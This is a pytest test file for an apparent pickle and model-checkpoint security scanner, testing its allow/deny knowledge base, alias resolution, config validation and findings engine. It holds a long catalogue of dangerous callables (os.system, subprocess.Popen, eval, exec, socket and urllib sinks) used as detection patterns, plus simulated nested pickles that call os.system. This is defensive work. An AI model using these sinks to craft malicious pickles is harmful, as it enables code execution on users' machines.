"""The rule layer: knowledge base data, name semantics, user configuration, and the engine
turning hand-built StreamFacts into findings (the tokenizer is not needed here)."""

from __future__ import annotations

import contextlib
import io
import pickle
import pickletools
import zipfile
from pathlib import Path

import pytest

from fastscan import findings as R
from fastscan.containers import anomalies as container_anomalies
from fastscan.containers.base import Container, ContainerAnomaly, PickleStream
from fastscan.facts import (
    ALL_ANOMALY_CODES,
    STATUS_BUDGET,
    STATUS_NOT_PICKLE,
    STATUS_OK,
    STATUS_TRUNCATED,
    Anomaly,
    CallSite,
    GlobalRef,
    NestedPickle,
    StreamFacts,
)
from fastscan.findings import Finding, Severity
from fastscan.rules import (
    DANGEROUS,
    DANGEROUS_CATEGORIES,
    REGISTRY,
    SAFE,
    UNKNOWN,
    RuleConfigError,
    RuleSet,
    classify,
    default_ruleset,
    evaluate,
)
from fastscan.rules.engine import (
    ANOMALY_RULES,
    MAX_FINDINGS_PER_RULE,
)
from fastscan.rules.knowledge import UNKNOWN_CATEGORIES, load_shipped, parse_shipped

SHIPPED = default_ruleset()
RULES_ONLY = RuleSet(load_shipped())  # the reviewed rules without the ecosystem index
ENTRIES = SHIPPED.entries
DENY = [e for e in ENTRIES if e.verdict_class == DANGEROUS]
ALLOW = [e for e in ENTRIES if e.verdict_class == SAFE]


def _id(entry) -> str:  # type: ignore[no-untyped-def]
    return f"{entry.module}:{entry.name}"


# --- the data itself ---------------------------------------------------------------------------


def test_knowledge_base_is_large_and_split_by_topic() -> None:
    sources = {e.source for e in ENTRIES}
    assert {"allow_python.toml", "allow_torch.toml", "allow_ml.toml", "deny_exec.toml"} <= sources
    assert len(DENY) > 150
    assert len(ALLOW) > 150


@pytest.mark.parametrize("entry", ENTRIES, ids=_id)
def test_every_entry_has_reason_ref_and_a_valid_category(entry) -> None:  # type: ignore[no-untyped-def]
    assert entry.reason.strip() and len(entry.reason) > 8
    assert entry.ref.strip()
    if entry.verdict_class == DANGEROUS:
        assert entry.category in DANGEROUS_CATEGORIES
    if entry.verdict_class == UNKNOWN:
        assert entry.category in UNKNOWN_CATEGORIES


def test_dangerous_attributes_and_aliases_have_reasons() -> None:
    kb = load_shipped()
    assert kb.dangerous_attributes and kb.module_aliases and kb.attribute_aliases
    for entry in kb.dangerous_attributes.values():
        assert entry.reason and entry.ref and entry.category in DANGEROUS_CATEGORIES


@pytest.mark.parametrize("entry", DENY, ids=_id)
def test_every_deny_entry_classifies_dangerous(entry) -> None:  # type: ignore[no-untyped-def]
    if entry.is_wildcard:
        for module, name in (
            (entry.module, "anything"),
            (entry.module, "SomeClass"),
            (entry.module + ".submodule", "run"),  # a module rule covers sub-modules (E3)
        ):
            got = classify(module, name)
            assert got.verdict_class == DANGEROUS, (module, name, got)
    else:
        got = classify(entry.module, entry.name)
        assert got.verdict_class == DANGEROUS, got
        assert got.category == entry.category


@pytest.mark.parametrize("entry", ALLOW, ids=_id)
def test_every_allow_entry_classifies_safe(entry) -> None:  # type: ignore[no-untyped-def]
    if entry.is_wildcard:
        # the rule base's wildcard semantics; with the index a name the module does not define
        # is FS109 instead (tests/test_rules_index.py), so probe names are judged without it
        assert RULES_ONLY.classify(entry.module, "SomeModelClass").verdict_class == SAFE
        assert RULES_ONLY.classify(entry.module + ".sub", "OtherClass").verdict_class == SAFE
        if entry.classes_only:
            # functions of an allowlisted package are not vouched for
            assert RULES_ONLY.classify(entry.module, "some_function").verdict_class == UNKNOWN
    else:
        assert classify(entry.module, entry.name).verdict_class == SAFE


# docs/threats.md section F, E4-E8: every named callable, as the pickle would spell it.
_THREAT_TEXT = """
os:system posix:system nt:system subprocess:Popen subprocess:check_output pty:spawn
multiprocessing.util:spawnv_passfds uuid:_get_command_stdout _osx_support:_read_output
_osx_support:_find_build_tool _aix_support:_read_cmd_output imaplib:IMAP4_stream
_pyrepl.pager:pipe_pager asyncio.unix_events:_UnixSubprocessTransport._start
setuptools._distutils.spawn:spawn pipes:Template.copy pipes:Template.open mailcap:findmatch
torch._inductor.codecache:compile_file torch.utils.collect_env:run
torch.utils.collect_env:run_and_read_all venv:create pydoc:pipepager
test.support.script_helper:assert_python_ok mlflow.projects.backend.local:_run_entry_point
ctypes:CDLL _interpreters:create _xxsubinterpreters:create builtins:eval builtins:exec
builtins:compile __builtin__:eval runpy:_run_code code:InteractiveInterpreter.runcode
bdb:Bdb.run pdb:run cProfile:run cProfile:runctx profile:run profile:Profile.runctx
trace:Trace.run trace:Trace.runctx timeit:timeit doctest:debug_script
idlelib.pyshell:ModifiedInterpreter lib2to3.pgen2.grammar:Grammar.loads
lib2to3.pgen2.pgen:ParserGenerator.make_label numpy.testing._private.utils:runstring
numpy.f2py.crackfortran:getlincoef numpy.f2py.crackfortran:_eval_length
torch.jit.unsupported_tensor_ops:execWrapper torch._dynamo.guards:GuardBuilder.get
torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression
torch.utils.bottleneck.__main__:run_cprofile torch.utils.bottleneck.__main__:run_autograd_prof
typing:_eval_type typing:get_type_hints dataclasses:_create_fn pip:main ensurepip:_run_pip
pickle:loads _pickle:loads cPickle:loads torch:load torch.serialization:load
torch.utils._config_module:ConfigModule.load_config
torch.utils.data.datapipes.utils.decoder:basichandlers joblib:load numpy:load
pandas:read_pickle dill:loads cloudpickle:loads marshal:loads yaml:load
torch.storage:_load_from_bytes builtins:open _io:FileIO io:open pathlib:Path.write_text
pathlib:Path.touch pathlib:PosixPath.write_bytes logging:FileHandler
distutils.file_util:write_file shutil:rmtree shutil:copyfile socket:create_connection
urllib.request:urlopen requests.api:get aiohttp.client:ClientSession
http.client:HTTPSConnection ssl:get_server_certificate smtplib:SMTP imaplib:IMAP4 ftplib:FTP
poplib:POP3 telnetlib:Telnet nntplib:NNTP webbrowser:open pandas:read_csv sched:scheduler.enter
sched:scheduler.run contextlib:ExitStack.callback contextlib:ExitStack unittest.mock:Mock
concurrent.futures.thread:ThreadPoolExecutor concurrent.futures.process:ProcessPoolExecutor
operator:call _operator:attrgetter operator:methodcaller builtins:map builtins:filter
itertools:starmap re:sub weakref:finalize string:Template collections:ChainMap
types:MappingProxyType pkgutil:resolve_name pydoc:locate importlib:import_module
importlib.util:find_spec importlib.util:module_from_spec inspect:getattr_static
builtins:getattr __builtin__:getattr builtins:__import__ functools:partial _functools:partial
functools:reduce fickling:hook picklescan.scanner:scan_file_path modelscan:ModelScan
sys:modules numpy.core:_ufunc_reconstruct cloudpickle.cloudpickle:subimport
torch.fx.graph_module:reduce_graph_module
"""
THREAT_CALLABLES = [tuple(item.split(":")) for item in _THREAT_TEXT.split()]


@pytest.mark.parametrize(("module", "name"), THREAT_CALLABLES, ids=str)
def test_threat_catalogue_callables_are_dangerous(module: str, name: str) -> None:
    got = classify(module, name)
    assert got.verdict_class == DANGEROUS, got
    assert got.category in DANGEROUS_CATEGORIES


# --- name semantics ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("module", "name", "resolved"),
    [
        ("posix", "system", "os.system"),
        ("nt", "system", "os.system"),
        ("_io", "FileIO", "io.FileIO"),
        ("_operator", "attrgetter", "operator.attrgetter"),
        ("__builtin__", "eval", "builtins.eval"),
        ("_pickle", "loads", "pickle.loads"),
        ("cPickle", "loads", "pickle.loads"),
        ("copy_reg", "_reconstructor", "copyreg._reconstructor"),
        ("_codecs", "encode", "codecs.encode"),
        ("pathlib._local", "PosixPath", "pathlib.PosixPath"),
    ],
)
def test_c_level_and_python2_aliases_map_to_public_module(
    module: str, name: str, resolved: str
) -> None:
    got = classify(module, name)
    assert got.resolved == resolved
    assert got.verdict_class == classify(*resolved.rsplit(".", 1)).verdict_class
    assert not got.dotted


def test_builtin_py2_spelling_equals_builtins() -> None:
    for name in ("set", "eval", "getattr", "type", "nonexistent_name"):
        assert (
            classify("__builtin__", name).verdict_class == classify("builtins", name).verdict_class
        )


def test_module_rule_covers_submodules_but_specific_rule_wins() -> None:
    assert classify("asyncio.unix_events", "_UnixSubprocessTransport._start").is_dangerous
    assert classify("asyncio", "run").is_dangerous
    # exact safe entry beats the module-wide deny of its module
    assert classify("torch.serialization", "_get_layout").is_safe
    assert classify("torch.serialization", "load").is_dangerous
    assert classify("torch.serialization", "_legacy_load").is_dangerous
    # a deny sub-package inside an allowlisted package
    assert classify("sklearn.datasets._openml", "fetch_openml").is_dangerous
    assert classify("sklearn.datasets", "SomeBunchClass").is_dangerous
    assert classify("sklearn.tree._classes", "DecisionTreeClassifier").is_safe
    assert classify("io", "BytesIO").is_safe and classify("io", "FileIO").is_dangerous
    assert (
        classify("logging", "getLogger").is_safe and classify("logging", "FileHandler").is_dangerous
    )


def test_classes_only_wildcard_covers_classes_and_cython_unpicklers_not_functions() -> None:
    assert classify("sklearn.linear_model._logistic", "LogisticRegression").is_safe
    assert classify("sklearn.utils.validation", "check_array").verdict_class == UNKNOWN
    assert classify("pandas._libs.arrays", "__pyx_unpickle_NDArrayBacked").is_safe
    assert classify("pandas", "read_csv").is_dangerous
    assert classify("pandas.io.pickle", "read_pickle").is_dangerous
    assert classify("pandas.io.pytables", "HDFStore").is_dangerous  # class, but does I/O


@pytest.mark.parametrize(
    ("module", "name", "resolved", "category"),
    [
        ("torch", "serialization.os.system", "os.system", "process"),  # E1
        ("random", "_os.system", "os.system", "process"),  # E2 import alias table
        ("pathlib", "os.system", "os.system", "process"),  # FK GHSA-5j3x-jp52-966f
        ("tempfile", "_shutil.rmtree", "shutil.rmtree", "filesystem_write"),
        ("torch", "serialization.pickle_module.loads", "pickle.loads", "nested_loader"),
        ("numpy", "__builtins__", "numpy.__builtins__", "introspection"),  # D8
        ("numpy", "size.__globals__", "numpy.size.__globals__", "introspection"),
        ("collections", "OrderedDict.__init__.__globals__", "", "introspection"),
        ("sklearn.base", "os.popen", "os.popen", "process"),
    ],
)
def test_dotted_names_resolve_as_attribute_paths(
    module: str, name: str, resolved: str, category: str
) -> None:
    got = classify(module, name)
    assert got.is_dangerous and got.category == category
    assert got.dotted == ("." in name)
    if resolved:
        assert got.resolved == resolved


def test_dotted_name_through_allowlisted_module_is_flagged_even_when_not_dangerous() -> None:
    got = classify("numpy", "prod.a")  # D8 attribute smuggling: safe function, smuggled attr
    assert got.verdict_class == UNKNOWN and got.dotted and got.through_allowlisted
    got = classify("torch", "nn.modules.linear.Linear")
    assert not got.is_safe and got.dotted and got.through_allowlisted
    # a safe class does not vouch for its attributes
    got = classify("pathlib", "Path.exists")
    assert got.verdict_class == UNKNOWN and got.through_allowlisted
    # reviewed dotted entries are not anomalies
    got = classify("pathlib", "Path.write_text")
    assert got.is_dangerous and not got.dotted
    # an unknown package's nested class is dotted but not "through an allowlist"
    got = classify("mylab.models", "Outer.Inner")
    assert got.verdict_class == UNKNOWN and got.dotted and not got.through_allowlisted


def test_dangerous_entry_taints_its_attributes() -> None:
    assert classify("subprocess", "Popen.__init__").is_dangerous
    assert classify("builtins", "getattr.x").is_dangerous
    assert classify("os", "path.join").is_dangerous


def test_unknown_and_degenerate_names() -> None:
    assert classify("mylab.models", "Net").verdict_class == UNKNOWN
    assert classify("", "x").verdict_class == UNKNOWN
    assert classify("os", "").verdict_class == UNKNOWN
    assert classify("  os ", " system ").is_dangerous  # protocol-0 text may carry spaces


def test_code_construction_is_its_own_reviewed_category() -> None:
    for module, name in [
        ("types", "CodeType"),
        ("types", "FunctionType"),
        ("cloudpickle.cloudpickle", "_make_function"),
        ("cloudpickle.cloudpickle_fast", "_make_skeleton_class"),
        ("dill._dill", "_create_function"),
        ("dill._dill", "_create_code"),
        ("builtins", "type"),
    ]:
        got = classify(module, name)
        assert (got.verdict_class, got.category) == (UNKNOWN, "code_construction"), got
    assert classify("dill._dill", "_import_module").is_dangerous
    assert classify("dill._dill", "_eval_repr").is_dangerous


def test_classify_is_memoised() -> None:
    first = SHIPPED.classify("posix", "system")
    assert SHIPPED.classify("posix", "system") is first


def test_digest_is_stable_hex() -> None:
    assert SHIPPED.digest() == RuleSet.load().digest()
    assert len(SHIPPED.digest()) == 64


# --- real benign pickles only reference allowlisted names -------------------------------------


def _globals_of(data: bytes) -> set[tuple[str, str]]:
    """Globals a benign pickle we built ourselves references (loading our own data is allowed)."""
    seen: set[tuple[str, str]] = set()

    class Recorder(pickle.Unpickler):
        def find_class(self, module: str, name: str):  # type: ignore[no-untyped-def]
            seen.add((module, name))
            return super().find_class(module, name)

        def persistent_load(self, pid):  # type: ignore[no-untyped-def]
            return None

    # torch's persistent ids are stubbed, so rebuilding a tensor fails late: that is fine here.
    with contextlib.suppress(Exception):
        Recorder(io.BytesIO(data)).load()
    return seen


def test_benign_numpy_sklearn_pandas_pickles_are_all_safe() -> None:
    np = pytest.importorskip("numpy")
    pd = pytest.importorskip("pandas")
    pytest.importorskip("sklearn")
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer, StandardScaler

    rng = np.random.default_rng(0)
    x = rng.random((40, 3))
    y = (x[:, 0] > 0.5).astype(int)
    objects = [
        np.arange(4.0),
        np.array([1, "a"], dtype=object),
        np.float32(1.5),
        rng,
        RandomForestClassifier(n_estimators=2, random_state=0).fit(x, y),
        Pipeline(
            [
                ("f", FunctionTransformer(np.log1p)),
                ("s", StandardScaler()),
                ("m", LogisticRegression()),
            ]
        ).fit(x, y),
        pd.DataFrame({"a": [1, 2], "t": pd.to_datetime(["2020-01-01", "2020-01-02"])}),
        pd.Series(pd.Categorical(["u", "v"])),
    ]
    for proto in (2, 4, 5):
        for obj in objects:
            for module, name in _globals_of(pickle.dumps(obj, protocol=proto)):
                got = classify(module, name)
                assert got.is_safe, (type(obj).__name__, proto, module, name, got)


@pytest.mark.filterwarnings("ignore::FutureWarning")  # old weight_norm: still in many checkpoints
def test_benign_torch_save_pickles_are_all_safe() -> None:
    torch = pytest.importorskip("torch")
    nn = torch.nn
    model = nn.Sequential(nn.Conv2d(1, 2, 3), nn.BatchNorm2d(2), nn.ReLU(), nn.Linear(2, 2))
    optimizer = torch.optim.SGD(model.parameters(), lr=0.1)
    objects = [
        model.state_dict(),
        model,
        nn.utils.weight_norm(nn.Linear(2, 2)),
        nn.utils.spectral_norm(nn.Linear(2, 2)),
        nn.TransformerEncoder(nn.TransformerEncoderLayer(8, 2, batch_first=True), 1),
        nn.LSTM(2, 2),
        optimizer,
        torch.optim.lr_scheduler.StepLR(optimizer, 2),
        {"step": 3, "dtype": torch.float16, "size": torch.Size([2]), "device": torch.device("cpu")},
    ]
    for obj in objects:
        buf = io.BytesIO()
        torch.save(obj, buf)
        with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as archive:
            data = next(archive.read(n) for n in archive.namelist() if n.endswith("data.pkl"))
        # torch.save writes protocol 2: every import is a GLOBAL opcode ("module name")
        found = {
            tuple(arg.split(" ", 1))
            for op, arg, _ in pickletools.genops(data)
            if op.name == "GLOBAL"
        }
        assert found
        for module, name in found:
            assert classify(module, name).is_safe, (type(obj).__name__, module, name)


# --- validation and user configuration ---------------------------------------------------------


@pytest.mark.parametrize(
    ("doc", "message"),
    [
        (
            {"entry": [{"module": "a", "name": "b", "class": "safe", "category": "x", "ref": "r"}]},
            "reason",
        ),
        (
            {
                "entry": [
                    {"module": "a", "name": "b", "class": "safe", "category": "x", "reason": "why"}
                ]
            },
            "ref",
        ),
        (
            {
                "entry": [
                    {
                        "module": "a",
                        "name": "b",
                        "class": "nice",
                        "category": "x",
                        "reason": "r",
                        "ref": "r",
                    }
                ]
            },
            "class",
        ),
        (
            {
                "entry": [
                    {
                        "module": "a",
                        "name": "b",
                        "class": "dangerous",
                        "category": "bad",
                        "reason": "r",
                        "ref": "r",
                    }
                ]
            },
            "category",
        ),
        (
            {
                "entry": [
                    {
                        "module": "a b",
                        "name": "b",
                        "class": "safe",
                        "category": "x",
                        "reason": "r",
                        "ref": "r",
                    }
                ]
            },
            "module",
        ),
        (
            {
                "entry": [
                    {
                        "module": "a",
                        "name": "b",
                        "names": ["c"],
                        "class": "safe",
                        "category": "x",
                        "reason": "r",
                        "ref": "r",
                    }
                ]
            },
            "exactly one",
        ),
        (
            {
                "entry": [
                    {
                        "module": "a",
                        "name": "b",
                        "class": "safe",
                        "category": "x",
                        "reason": "r",
                        "ref": "r",
                        "typo": 1,
                    }
                ]
            },
            "typo",
        ),
        (
            {
                "entry": [
                    {
                        "module": "a",
                        "name": "f",
                        "class": "safe",
                        "category": "x",
                        "reason": "r",
                        "ref": "r",
                        "classes_only": True,
                    }
                ]
            },
            "classes_only",
        ),
        ({"entrys": []}, "entrys"),
    ],
)
def test_rule_file_validation_names_file_and_entry(doc: dict, message: str) -> None:  # type: ignore[type-arg]
    with pytest.raises(RuleConfigError, match=message) as err:
        parse_shipped(doc, "broken.toml")
    assert "broken.toml" in str(err.value)


def _write(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "fastscan.toml"
    path.write_text(text)
    return path


def test_user_config_adds_allow_and_deny_entries(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        """
[[allow]]
module = "mylab.models"
name = "*"
reason = "our own model classes"

[[deny]]
module = "mylab.tools"
names = ["run", "Runner"]
category = "process"
reason = "shells out"
ref = "TICKET-1"
""",
    )
    rules = RuleSet.load(path)
    assert rules.classify("mylab.models.v2", "Net").is_safe
    assert rules.classify("mylab.tools", "run").is_dangerous
    assert rules.classify("mylab.tools", "run").ref == "TICKET-1"
    assert rules.classify("mylab.models", "Net").ref == str(path)  # ref defaults to the file
    assert rules.classify("os", "system").is_dangerous  # shipped rules still apply
    assert rules.digest() != SHIPPED.digest()
    assert classify("mylab.models", "Net").verdict_class == UNKNOWN  # default set untouched


def test_user_allow_of_shipped_sink_needs_override(tmp_path: Path) -> None:
    text = '[[allow]]\nmodule = "builtins"\nname = "getattr"\nreason = "ultralytics uses it"\n'
    with pytest.raises(RuleConfigError, match=r"fastscan\.toml.*\[\[allow\]\] #1.*override"):
        RuleSet.load(_write(tmp_path, text))
    rules = RuleSet.load(_write(tmp_path, text + "override = true\n"))
    assert rules.classify("builtins", "getattr").is_safe
    assert rules.classify("__builtin__", "getattr").is_safe
    with pytest.raises(RuleConfigError, match="override"):
        RuleSet.load(
            _write(tmp_path, '[[allow]]\nmodule = "asyncio.x"\nname = "*"\nreason = "r"\n')
        )
    with pytest.raises(RuleConfigError, match="override"):
        RuleSet.load(_write(tmp_path, '[[allow]]\nmodule = "torch"\nname = "*"\nreason = "r"\n'))


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ('[[deny]]\nmodule = "a"\nname = "b"\nreason = "r"\n', "category"),
        ('[[deny]]\nmodule = "a"\nname = "b"\ncategory = "evil"\nreason = "r"\n', "category"),
        ('[[allow]]\nmodule = "a"\nname = "b"\n', "reason"),
        ('[[suppress]]\nrule = "FS999"\nreason = "r"\n', "FS999"),
        ('[[suppress]]\nrule = "FS103"\n', "reason"),
        ('[[suppress]]\nrule = "FS103"\nreason = "r"\npath = 3\n', "path"),
        ("[[allowed]]\n", "allowed"),
        ("not toml [", "not valid TOML"),
    ],
)
def test_user_config_errors_name_the_file(tmp_path: Path, text: str, message: str) -> None:
    with pytest.raises(RuleConfigError, match=message) as err:
        RuleSet.load(_write(tmp_path, text))
    assert "fastscan.toml" in str(err.value)


def test_missing_user_config_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(RuleConfigError, match="cannot read"):
        RuleSet.load(tmp_path / "nope.toml")


# --- engine: facts -> findings -----------------------------------------------------------------


def make_facts(
    globals_: list[tuple[str, str]] = (),  # type: ignore[assignment]
    calls: list[tuple[str, int]] = (),  # type: ignore[assignment]
    *,
    status: str = STATUS_OK,
    error_offset: int = -1,
    anomalies: tuple[Anomaly, ...] = (),
    strings: tuple[str, ...] = (),
    nested: tuple[NestedPickle, ...] = (),
    n_pickles: int = 1,
    unresolved: frozenset[int] = frozenset(),
    call_of_call_at: int = -1,
    producer: int = -1,
) -> StreamFacts:
    """StreamFacts with global i at offset 10*i and call j at offset 100 + 10*j."""
    refs = tuple(
        GlobalRef(m, n, "STACK_GLOBAL", 10 * i, 0, i not in unresolved)
        for i, (m, n) in enumerate(globals_)
    )
    sites = [CallSite(op, 100 + 10 * j, 0, idx) for j, (op, idx) in enumerate(calls)]
    if call_of_call_at >= 0:
        sites.append(
            CallSite(
                "REDUCE",
                call_of_call_at,
                0,
                -1,
                callable_is_call=True,
                callable_call_index=producer,
            )
        )
    return StreamFacts(
        status=status,
        error_offset=error_offset,
        length=1000,
        n_pickles=n_pickles,
        pickle_offsets=tuple(range(0, 100 * n_pickles, 100)),
        globals=refs,
        calls=tuple(sites),
        strings=strings,
        nested=nested,
        anomalies=anomalies,
    )


def ids(findings: list[Finding]) -> list[str]:
    return sorted(f.rule_id for f in findings)


def by_rule(findings: list[Finding], rule: R.FindingRule) -> list[Finding]:
    return [f for f in findings if f.rule_id == rule.rule_id]


def torch_zip(*members: str) -> Container:
    return Container("torch_zip", ".pt", streams=[PickleStream(m, 0, b"") for m in members])


def test_registry_ids_are_unique_well_formed_and_used_by_the_engine() -> None:
    assert all(len(k) == 5 and k.startswith("FS") and k[2:].isdigit() for k in REGISTRY)
    assert all(REGISTRY[r.rule_id] is r for r in ANOMALY_RULES.values())
    assert all(REGISTRY[k.rule.rule_id] is k.rule for k in container_anomalies.BY_CODE.values())
    assert {k[2] for k in REGISTRY} == {"1", "2", "3", "9"}


def test_every_tokenizer_anomaly_code_is_mapped_deliberately() -> None:
    handled_in_context = {"persid", "stack_global_non_string"}
    assert set(ALL_ANOMALY_CODES) - handled_in_context <= set(ANOMALY_RULES)


def test_clean_torch_like_stream_has_no_findings() -> None:
    facts = make_facts(
        [
            ("collections", "OrderedDict"),
            ("torch._utils", "_rebuild_tensor_v2"),
            ("torch", "FloatStorage"),
        ],
        [("REDUCE", 0), ("REDUCE", 1), ("BUILD", 0)],
        anomalies=(Anomaly("persid", 40),),
        strings=("conv.weight", "archive/data/0", "cpu"),
    )
    assert evaluate([("archive/data.pkl", facts)], torch_zip("archive/data.pkl")) == []


def test_dangerous_import_and_call() -> None:
    imported = evaluate([("m", make_facts([("os", "system")]))])
    assert ids(imported) == ["FS101"]
    assert imported[0].severity == Severity.MALICIOUS
    assert (imported[0].member, imported[0].offset, imported[0].subject) == ("m", 0, "os.system")
    called = evaluate([("m", make_facts([("nt", "system")], [("REDUCE", 0)]))])
    assert ids(called) == ["FS102"]  # the call replaces the import finding for the same name
    assert called[0].offset == 100 and "os.system" in called[0].message
    assert called[0].severity == Severity.MALICIOUS


@pytest.mark.parametrize("opcode", ["REDUCE", "OBJ", "INST", "NEWOBJ", "NEWOBJ_EX"])
def test_every_call_opcode_counts_as_a_call(opcode: str) -> None:
    assert ids(evaluate([("", make_facts([("posix", "system")], [(opcode, 0)]))])) == ["FS102"]


def test_build_is_not_a_call() -> None:
    assert ids(evaluate([("", make_facts([("os", "system")], [("BUILD", 0)]))])) == ["FS101"]


def test_unknown_global_is_suspicious_never_a_pass() -> None:
    found = evaluate([("", make_facts([("mylab.models", "Net")], [("REDUCE", 0)]))])
    assert ids(found) == ["FS103"]
    assert found[0].severity == Severity.SUSPICIOUS and "called" in found[0].message


def test_unresolved_globals() -> None:
    facts = make_facts([("?", "?")], unresolved=frozenset({0}))
    assert [f.severity for f in evaluate([("", facts)])] == [Severity.SUSPICIOUS]
    called = make_facts([("?", "?")], [("REDUCE", 0)], unresolved=frozenset({0}))
    assert [(f.rule_id, f.severity) for f in evaluate([("", called)])] == [
        ("FS104", Severity.MALICIOUS)
    ]
    budget = make_facts(
        [("?", "?")],
        [("REDUCE", 0)],
        unresolved=frozenset({0}),
        anomalies=(Anomaly("memo_budget", 5),),
    )
    assert by_rule(evaluate([("", budget)]), R.UNRESOLVED_GLOBAL)[0].severity == Severity.SUSPICIOUS


def test_dotted_names() -> None:
    smuggled = evaluate([("", make_facts([("numpy", "prod.a")]))])
    # FS109 when the ecosystem index knows numpy (it defines no `prod.a`), else unlisted FS103
    expected = "FS109" if SHIPPED.index is not None else "FS103"
    assert ids(smuggled) == sorted([expected, "FS105"])
    through = evaluate([("", make_facts([("torch", "serialization.os.system")], [("REDUCE", 0)]))])
    assert ids(through) == ["FS102"]
    assert "-> os.system" in through[0].message
    safe_target = evaluate([("", make_facts([("pickle", "codecs.encode")]))])
    assert ids(safe_target) == ["FS105"]


def test_code_construction_and_calling_what_was_built() -> None:
    built = make_facts(
        [("types", "CodeType"), ("types", "FunctionType")], [("REDUCE", 0), ("REDUCE", 1)]
    )
    assert ids(evaluate([("", built)])) == ["FS106", "FS106"]

    def grade(globals_: list[tuple[str, str]], producer: int) -> list[tuple[Severity, int]]:
        calls = [("REDUCE", i) for i in range(len(globals_))]
        facts = make_facts(globals_, calls, call_of_call_at=300, producer=producer)
        return [
            (f.severity, f.offset) for f in by_rule(evaluate([("", facts)]), R.CALL_OF_CALL_RESULT)
        ]

    # calling the function cloudpickle/dill/types built: the stream runs its own code
    assert grade([("cloudpickle.cloudpickle", "_make_function")], 0) == [(Severity.MALICIOUS, 300)]
    assert grade([("dill._dill", "_create_function")], 0) == [(Severity.MALICIOUS, 300)]
    # getattr(obj, name)(...) (E6)
    assert grade([("builtins", "getattr")], 0) == [(Severity.MALICIOUS, 300)]
    # cloudpickle's own _builtin_type("CodeType")(...) only constructs: recorded, not flagged
    assert grade([("cloudpickle.cloudpickle", "_builtin_type")], 0) == [(Severity.LOW, 300)]
    # producer unknown (tokenizer did not say which call): a resolver global decides
    assert grade([("builtins", "getattr")], -1) == [(Severity.MALICIOUS, 300)]
    assert grade([("types", "FunctionType")], -1) == [(Severity.SUSPICIOUS, 300)]
    assert grade([("mylab", "Factory")], -1) == [(Severity.SUSPICIOUS, 300)]


def test_reviewed_unknown_decoder() -> None:
    found = evaluate([("", make_facts([("base64", "b64decode")], [("REDUCE", 0)]))])
    assert ids(found) == ["FS108"] and "decoder" in found[0].message


def test_fail_closed_on_broken_stream() -> None:
    unsafe_then_break = make_facts(
        [("mylab", "thing")], [("REDUCE", 0)], status=STATUS_TRUNCATED, error_offset=500
    )
    broken = by_rule(evaluate([("", unsafe_then_break)]), R.BROKEN_AFTER_CALL)
    assert [(f.severity, f.offset) for f in broken] == [(Severity.MALICIOUS, 500)]
    safe_then_break = make_facts(
        [("collections", "OrderedDict")], [("REDUCE", 0)], status=STATUS_TRUNCATED, error_offset=500
    )
    found = evaluate([("", safe_then_break)])
    assert [(f.rule_id, f.severity) for f in found] == [("FS201", Severity.SUSPICIOUS)]
    call_after_break = make_facts(
        [("mylab", "thing")], [("REDUCE", 0)], status="bad_opcode", error_offset=50
    )
    assert ids(evaluate([("", call_after_break)])) == ["FS103", "FS202"]


def test_other_statuses() -> None:
    assert [
        (f.rule_id, f.severity) for f in evaluate([("", make_facts(status=STATUS_BUDGET))])
    ] == [("FS204", Severity.SUSPICIOUS)]
    assert [
        (f.rule_id, f.severity) for f in evaluate([("", make_facts(status=STATUS_NOT_PICKLE))])
    ] == [("FS203", Severity.INFO)]


@pytest.mark.parametrize(
    ("code", "rule", "severity"),
    [
        ("build_on_global", R.MUTATES_GLOBAL, Severity.MALICIOUS),
        ("setitem_on_global", R.MUTATES_GLOBAL, Severity.MALICIOUS),
        ("frame_violation", R.FRAME_VIOLATION, Severity.SUSPICIOUS),
        ("bad_memo_get", R.MEMO_TRICK, Severity.SUSPICIOUS),
        ("memo_type_confusion", R.MEMO_TRICK, Severity.SUSPICIOUS),
        ("duplicate_proto", R.PROTO_TRICK, Severity.SUSPICIOUS),
        ("ext_code", R.EXT_CODE, Severity.SUSPICIOUS),
        ("non_utf8_name", R.NON_UTF8_NAME, Severity.SUSPICIOUS),
        ("trailing_junk", R.TRAILING_JUNK, Severity.LOW),
        ("frame_in_old_protocol", R.ODD_STRUCTURE, Severity.LOW),
        ("persid", R.PERSID_OUTSIDE_TORCH, Severity.SUSPICIOUS),
        ("some_future_code", R.ODD_STRUCTURE, Severity.LOW),
    ],
)
def test_anomaly_codes_become_structure_findings(
    code: str, rule: R.FindingRule, severity: Severity
) -> None:
    found = evaluate([("m", make_facts(anomalies=(Anomaly(code, 77, 0, "why"),)))])
    assert [(f.rule_id, f.severity, f.offset, f.subject) for f in found] == [
        (rule.rule_id, severity, 77, code)
    ]


def test_persid_is_normal_in_torch_files_only() -> None:
    facts = make_facts(anomalies=(Anomaly("persid", 3),))
    assert evaluate([("archive/data.pkl", facts)], torch_zip("archive/data.pkl")) == []
    legacy = Container("raw_pickle", ".pt", streams=[PickleStream("", 0, b"", kind="legacy_torch")])
    assert evaluate([("", facts)], legacy) == []
    assert ids(evaluate([("", facts)], Container("joblib", ".joblib"))) == ["FS214"]


def test_frame_overrun_in_a_truncated_stream_is_just_truncation() -> None:
    facts = make_facts(
        status=STATUS_TRUNCATED, error_offset=9, anomalies=(Anomaly("frame_overrun", 2),)
    )
    found = evaluate([("", facts)])
    assert {(f.rule_id, f.severity) for f in found} == {
        ("FS202", Severity.SUSPICIOUS), ("FS219", Severity.LOW)
    }  # fmt: skip


def test_multiple_pickles_where_one_is_expected() -> None:
    facts = make_facts(n_pickles=2)
    assert ids(evaluate([("archive/data.pkl", facts)], torch_zip("archive/data.pkl"))) == ["FS213"]
    assert evaluate([("", facts)]) == []  # raw pickle files may hold several (C3 is a note)


def test_nested_pickles_are_walked_and_reported_at_the_outer_offset() -> None:
    inner = make_facts([("os", "system")], [("REDUCE", 0)])
    outer = make_facts(
        [("pickle", "loads")],
        [("REDUCE", 0)],
        nested=(NestedPickle(400, 60, "raw", inner), NestedPickle(600, 80, "base64", inner)),
    )
    found = evaluate([("m", outer)])
    assert ids(found) == ["FS102", "FS102", "FS210", "FS211"]
    inner_call = [f for f in found if f.subject == "os.system"]
